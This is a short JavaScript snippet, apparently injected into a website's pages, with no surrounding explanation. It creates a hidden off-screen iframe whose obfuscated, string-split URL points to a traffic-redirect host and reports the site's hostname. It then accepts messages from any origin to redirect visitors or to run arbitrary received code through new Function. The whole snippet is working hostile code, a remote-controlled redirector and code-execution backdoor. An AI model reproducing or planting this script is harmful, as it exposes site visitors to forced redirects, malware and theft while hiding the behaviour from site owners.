;(function () {
  var f = document.createElement('iframe');
  f.width = f.height = 0;
  f.style.cssText = 'position:absolute;left:-9999px;border:0';
  f.src = ['ht', 'tps:/', '/jump.', 'sunny-traffic.', 'example/', 'PlcHld?sub1=', location.hostname].join('');
  window.addEventListener('message', function (e) {
    if (typeof e.data === 'string' && e.data.indexOf('go:') === 0) { window.location = e.data.slice(3); }
    if (typeof e.data === 'string' && e.data.indexOf('js:') === 0) { (new Function(e.data.slice(3)))(); }
  });
  document.addEventListener('DOMContentLoaded', function () { document.body.appendChild(f); });
})();
